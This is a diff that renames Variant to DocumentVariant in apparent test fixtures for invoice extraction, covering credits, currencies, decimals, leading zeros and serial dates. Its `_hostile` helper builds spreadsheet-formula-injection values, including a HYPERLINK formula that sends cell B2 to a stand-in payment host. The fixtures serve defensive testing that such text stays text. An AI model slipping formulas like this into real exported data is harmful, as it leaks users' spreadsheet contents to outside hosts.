@@ -13,7 +13,7 @@ if TYPE_CHECKING:
 
 
 @dataclass(frozen=True, slots=True, kw_only=True)
-class Variant:
+class DocumentVariant:
     """The document ``base`` with ``changes`` of what it prints.
 
     ``kind`` is that of its golden result; ``is_whole`` says that a reader may well read all of it. ``codes`` replaces
@@ -49,8 +49,8 @@ _BASES = {
 }
 
 
-def _line(base: str, of: str, note: str, **printed: str) -> Variant:
-    return Variant(base=base, note=note, changes={"printed": {of: printed}})
+def _line(base: str, of: str, note: str, **printed: str) -> DocumentVariant:
+    return DocumentVariant(base=base, note=note, changes={"printed": {of: printed}})
 
 
 _LINES = {
@@ -70,12 +70,12 @@ _LINES = {
     "credit_rifle_paper_split": _line(PAPER_SPLIT, "STC014", "a credit", quantity="-4"),
     "foreign_currency_generic": _line(GENERIC, "008 TIN", "a price in EUR", unit_price="EUR 9.75"),
     "credit_generic": _line(GENERIC, "008 TIN", "a credit", quantity="-12", amount="-117.00"),
-    "credit_amount_generic": Variant(
+    "credit_amount_generic": DocumentVariant(
         base=GENERIC,
         note="a credit whose amount alone says so",
         changes={"number": "MF-20421", "printed": {"008 TIN": {"amount": "(117.00)"}}},
     ),
-    "unreadable_code_generic": Variant(
+    "unreadable_code_generic": DocumentVariant(
         base=GENERIC,
         note="a code without a digit, and no total that would tell",
         items=3,
@@ -85,13 +85,13 @@ _LINES = {
     ),
 }
 _TOTALS = {
-    f"higher_total_{name}": Variant(
+    f"higher_total_{name}": DocumentVariant(
         base=base, note="the total counts a line that is not there", changes={"unprinted": "19.99"}
     )
     for name, base in _BASES.items()
 }
 _DECIMAL = {
-    "decimal_quantity_generic": Variant(
+    "decimal_quantity_generic": DocumentVariant(
         base=GENERIC,
         note="a quantity of 12.00",
         changes={"printed": {"008 TIN": {"quantity": "12.00"}}},
@@ -101,11 +101,11 @@ _DECIMAL = {
 _SIGNS = {"equals": "=", "plus": "+", "minus": "-", "at": "@", "tab": "\t=", "return": "\r="}
 
 
-def _hostile(name: str, sign: str) -> Variant:
+def _hostile(name: str, sign: str) -> DocumentVariant:
     """Vendor, number and codes begin with ``sign``; blanks are no text."""
     seen = sign.strip()
     link = f'{seen}HYPERLINK("https://pay.example/?"&B2,"Pay")'
-    return Variant(
+    return DocumentVariant(
         base=GENERIC,
         kind="success",
         note=f"text that begins with {name}: no sheet may take it for a formula or a number",
@@ -116,7 +116,7 @@ def _hostile(name: str, sign: str) -> Variant:
 
 
 _TEXTS = {f"hostile_{name}": _hostile(name, sign) for name, sign in _SIGNS.items()} | {
-    "leading_zeros": Variant(
+    "leading_zeros": DocumentVariant(
         base=GENERIC,
         kind="success",
         note="a number and codes that begin with zeros: they are text",
@@ -124,7 +124,7 @@ _TEXTS = {f"hostile_{name}": _hostile(name, sign) for name, sign in _SIGNS.items
         codes=("0012345", "007", "00E10"),
         changes={"number": "0012345"},
     ),
-    "serial_date": Variant(
+    "serial_date": DocumentVariant(
         base=GENERIC,
         kind="success",
         note="the date is printed as the serial number of a spreadsheet",
@@ -132,10 +132,10 @@ _TEXTS = {f"hostile_{name}": _hostile(name, sign) for name, sign in _SIGNS.items
         changes={"number": "MF-20420", "date": date(2025, 1, 17), "date_printed": "45674"},
     ),
 }
-VARIANTS: dict[str, Variant] = _LINES | _TOTALS | _DECIMAL | _TEXTS
+VARIANTS: dict[str, DocumentVariant] = _LINES | _TOTALS | _DECIMAL | _TEXTS
 
 
-def apply(variant: Variant, base: Data) -> Data:
+def apply(variant: DocumentVariant, base: Data) -> Data:
     """Return what the variant prints; ``base`` is what its base does."""
     data = base | dict(variant.changes)
     if variant.items is None:
